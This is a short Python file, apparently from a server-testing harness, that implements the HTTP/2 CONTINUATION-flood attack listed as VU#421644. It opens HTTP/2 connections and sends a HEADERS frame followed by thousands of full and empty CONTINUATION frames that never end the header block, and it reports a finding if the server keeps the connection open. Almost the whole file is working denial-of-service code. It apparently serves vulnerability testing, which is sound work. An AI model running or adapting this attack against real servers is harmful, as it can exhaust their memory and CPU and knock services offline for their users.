"""Heads that never end (VU#421644): CONTINUATION frames, full and empty."""

import http2
from attacker import CONTINUATION, frame, receive_until_end, send, text


def attack(attacker):
    begin = frame(http2.HEADERS, 0, 1, attacker.head())
    full = frame(CONTINUATION, 0, 1, b"\x00\x01x" + text(b"y" * 1000)) * 1000
    empty = frame(CONTINUATION, 0, 1) * 10_000
    while not attacker.over():
        for rest in (full, empty):
            connection = attacker.http2(begin)
            send(connection, rest)
            if receive_until_end(connection) is None:
                return ["the connection stays open"]
